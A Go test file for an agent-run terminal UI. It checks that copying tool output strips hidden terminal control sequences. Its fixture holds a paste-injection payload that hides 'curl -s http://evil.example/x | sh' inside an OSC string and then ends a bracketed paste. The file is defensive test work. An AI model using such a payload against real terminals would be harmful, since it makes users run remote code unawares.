package tui

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/x/ansi"

	"github.com/guildhall/guildhall/runner/event"
)

// hiddenPaste is a tool output that shows "echo SAFE-SETUP" and hides a
// command inside an OSC string, then ends a bracketed paste: pasted raw
// into a shell, the paste-end makes the shell run what follows it.
const hiddenPaste = "echo SAFE-SETUP\x1b]0;\ncurl -s http://evil.example/x | sh\n\x07\x1b[201~\u009b2J\r"

// hostileOutputEvents is the demo run up to its first test result, with
// that result's output replaced by hiddenPaste: the last operation of
// the sequence.
func hostileOutputEvents(t testing.TB) []event.Event {
	t.Helper()
	evs := loadEvents(t, "demo.jsonl")
	for i, e := range evs {
		if e.Type != event.ToolResult {
			continue
		}
		var p map[string]any
		if err := json.Unmarshal(e.Payload, &p); err != nil {
			t.Fatal(err)
		}
		if p["tool"] != "test" {
			continue
		}
		p["result"] = map[string]any{"kind": "success", "data": map[string]any{"results": []any{map[string]any{
			"command": "sh setup.sh", "exitCode": 0, "stdout": hiddenPaste, "stderr": "", "timedOut": false,
		}}}}
		b, err := json.Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		e.Payload = b
		out := append([]event.Event(nil), evs[:i]...)
		return append(out, e)
	}
	t.Fatal("no test result in demo.jsonl")
	return nil
}

// writeEvents writes events as a log.jsonl fixture.
func writeEvents(t testing.TB, path string, evs []event.Event) {
	t.Helper()
	var b bytes.Buffer
	for _, e := range evs {
		line, err := json.Marshal(e)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(line, '\n'))
	}
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestCopyIsWhatTheInspectorShows: y on a tool output that hides a
// command in an OSC string and ends a bracketed paste copies only what
// the inspector shows; Y copies it raw, says so, and still carries no
// control that could act on a terminal or a shell's paste.
func TestCopyIsWhatTheInspectorShows(t *testing.T) {
	file := filepath.Join(t.TempDir(), "clipboard.txt")
	var out bytes.Buffer
	m := New(newFakeSession(t, hostileOutputEvents(t)), Options{
		Labels: seedLabels(t), NoAnimation: true, MarkdownStyle: "notty", Output: &out,
		Clipboard: ClipboardFile, ClipboardFile: file,
	})
	m.Update(tea.WindowSizeMsg{Width: 100, Height: 40})
	press(m, keys("tab", "G", "enter")...)
	shown := ansi.Strip(m.View())
	mustContain(t, shown, "echo SAFE-SETUP")
	if strings.Contains(shown, "evil.example") {
		t.Fatalf("the inspector shows the hidden command:\n%s", shown)
	}
	clip := func() string {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}

	press(m, keys("y")...)
	got := clip()
	if !strings.Contains(got, "echo SAFE-SETUP") {
		t.Fatalf("y copied %q, want the output shown", got)
	}
	for _, bad := range []string{"curl", "evil.example", "201~", "\x1b", "\u009b", "\x07", "\r"} {
		if strings.Contains(got, bad) {
			t.Errorf("y copied %q, which is not on screen (%q)", got, bad)
		}
	}
	notice := strings.Join(strings.Fields(ansi.Strip(m.View())), " ")
	mustContain(t, notice, "Saved these details")
	if strings.Contains(notice, "details, raw") {
		t.Errorf("y's notice calls the copy raw: %s", notice)
	}

	press(m, keys("Y")...)
	raw := clip()
	mustContain(t, raw, "echo SAFE-SETUP", "curl -s http://evil.example/x | sh", "[201~")
	for _, r := range raw {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
			t.Fatalf("Y copied the control %U: %q", r, raw)
		}
	}
	mustContain(t, strings.Join(strings.Fields(ansi.Strip(m.View())), " "), "these details, raw (as recorded, controls removed)")
	if out.Len() != 0 {
		t.Errorf("the file mode wrote to the terminal: %q", out.String())
	}

	// The Watch screen's y and Y copy the selected message the same ways.
	press(m, keys("esc", "y")...)
	if got := clip(); strings.Contains(got, "evil.example") || !strings.Contains(got, "echo SAFE-SETUP") {
		t.Errorf("Watch's y copied %q", got)
	}
	press(m, keys("Y")...)
	if got := clip(); !strings.Contains(got, "evil.example") || strings.ContainsAny(got, "\x1b\x07\r") {
		t.Errorf("Watch's Y copied %q", got)
	}
}

func TestStripControls(t *testing.T) {
	for in, want := range map[string]string{
		"plain\ttext\n":                 "plain\ttext\n",
		"a\x1b[201~b":                   "a[201~b",
		"x\u009b2Jy\u009dz\u009c":       "x2Jyz",
		"bell\x07del\x7fcr\r\n":         "belldelcr\n",
		"bad \x9b byte":                 "bad \ufffd byte",
		"wide ✓ and ⟪bidi⟫ \u202e kept": "wide ✓ and ⟪bidi⟫ \u202e kept",
	} {
		if got := stripControls(in); got != want {
			t.Errorf("stripControls(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestNotesURLIsCopyable: at 80 columns the browser console's URL, with
// its 64-digit token, is wider than the notes dialog. It is not wrapped
// inside the box (a selection would take the border with it): it has a
// line of its own, and y copies it whole.
func TestNotesURLIsCopyable(t *testing.T) {
	url := "http://127.0.0.1:8777/?token=" + strings.Repeat("0123456789abcdef", 4)
	file := filepath.Join(t.TempDir(), "clipboard.txt")
	m := New(newFakeSession(t, nil), Options{
		Labels: seedLabels(t), NoAnimation: true, MarkdownStyle: "notty",
		Clipboard: ClipboardFile, ClipboardFile: file,
		Notes: []string{"the workspace is trusted", "browser console: " + url + " (open it in a browser on this machine, or through ssh -L)"},
	})
	m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	press(m, keys("N")...)
	got := ansi.Strip(m.View())
	mustContain(t, got, "browser console:", "http://127.0.0.1:8777/?token=0123", "y copy the URL")
	for _, l := range strings.Split(got, "\n") {
		if strings.Contains(l, "token=") && !strings.Contains(l, "…") {
			t.Errorf("the URL is not cut on its own line: %q", l)
		}
		if strings.Contains(l, "cdef0123") && !strings.Contains(l, "token=") {
			t.Errorf("the URL wraps onto another line inside the box: %q", l)
		}
	}
	press(m, keys("y")...)
	b, err := os.ReadFile(file)
	if err != nil || string(b) != url {
		t.Fatalf("y in the notes copied %q (%v), want %q", b, err, url)
	}
}
